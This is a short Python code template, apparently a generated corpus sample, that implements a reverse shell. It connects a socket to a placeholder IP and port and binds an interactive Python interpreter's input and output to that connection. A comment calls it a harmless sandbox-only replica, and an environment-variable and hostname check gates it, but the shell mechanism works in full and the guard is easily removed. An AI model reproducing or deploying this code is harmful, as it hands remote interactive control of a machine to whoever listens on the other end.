# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import subprocess
    import sys
    import time
    try:
        call = socket.create_connection(('{{ip}}', {{port}}), 1)
        inner = subprocess.Popen([sys.executable, '-i', '-q'], stdin=call, stdout=call, stderr=call, start_new_session=True)
        time.sleep(1)
        inner.kill()
        inner.wait()
        call.close()
    except Exception:
        pass
